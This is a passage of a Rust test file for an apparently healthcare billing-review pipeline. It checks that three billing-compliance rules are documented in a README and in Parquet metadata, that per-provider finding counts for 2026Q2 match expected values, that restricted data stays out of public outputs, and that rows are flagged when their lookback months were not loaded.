    let readme = std::fs::read_to_string(out.join("restricted/billing/README.md")).unwrap();
    for (id, phrase) in [
        ("duplicate-tcm", "two or more providers of the same provider_kind"),
        ("tribal-encounter-limit", "More than one billed contact with procedure code T1017"),
        ("cw-tcm-contact", "in that month or in either of the two preceding months"),
    ] {
        assert!(readme.contains(&format!("## {id}:")) && readme.contains(phrase), "README documents {id}");
        let f = std::fs::File::open(out.join(format!("restricted/billing/{id}.parquet"))).unwrap();
        let meta = datafusion::parquet::file::reader::SerializedFileReader::new(f).unwrap();
        use datafusion::parquet::file::reader::FileReader;
        let kv = meta.metadata().file_metadata().key_value_metadata().cloned().unwrap_or_default();
        let rule = kv.iter().find(|k| k.key == "casecard.rule").and_then(|k| k.value.clone()).unwrap_or_default();
        assert!(rule.contains(phrase), "{id}: rule in the Parquet metadata: {rule}");
    }

    // Per-provider counts for the quality council (findings: billed months, or person-days
    // for the tribal limit), in results/, never in the site.
    let counts: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(out.join("results/billing_review_counts.json")).unwrap()).unwrap();
    assert_eq!(counts["period"], "2026Q2");
    let got: BTreeSet<(String, String, i64, i64)> = counts["counts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["check"].as_str().unwrap().into(), c["provider_id"].as_str().unwrap().into(), c["findings"].as_i64().unwrap(), c["persons"].as_i64().unwrap()))
        .collect();
    let want: BTreeSet<(String, String, i64, i64)> = [
        ("duplicate-tcm", A, 2, 2),
        ("duplicate-tcm", B, 2, 2),
        ("duplicate-tcm", C, 1, 1),
        ("duplicate-tcm", M, 1, 1),
        ("duplicate-tcm", L, 1, 1),
        ("duplicate-tcm", R, 1, 1),
        ("tribal-encounter-limit", L, 2, 2),
        ("tribal-encounter-limit", A, 1, 1),
        ("cw-tcm-contact", A, 6, 5),
    ]
    .iter()
    .map(|(c, p, f, n)| (c.to_string(), p.to_string(), *f, *n))
    .collect();
    assert_eq!(got, want);
    assert_no_restricted_content_in_public_outputs(out);
    assert!(r.stdout.contains("billing review rows: cw-tcm-contact 6, duplicate-tcm 8, tribal-encounter-limit 4"), "{}", r.stdout);
}

/// Without the 2026Q1 package the February visit is unknown: P40's April and May are listed
/// too, and the rows say whether their lookback months were loaded (April's and May's reach
/// into 2026Q1; June's do not).
#[test]
fn cw_rule_says_when_its_lookback_was_not_loaded() {
    let r = billing_world(false);
    let cw = list(&r.out, "cw-tcm-contact");
    let p40: Vec<Vec<String>> = pick(&cw, &["month", "person_id", "last_in_person_contact", "lookback_loaded"])
        .into_iter()
        .filter(|row| row[1] == pid(40))
        .collect();
    assert_eq!(
        p40,
        vec![
            v(&["2026-04", &pid(40), "", "false"]),
            v(&["2026-05", &pid(40), "", "false"]),
            v(&["2026-06", &pid(40), "", "true"]),
        ]
    );
}
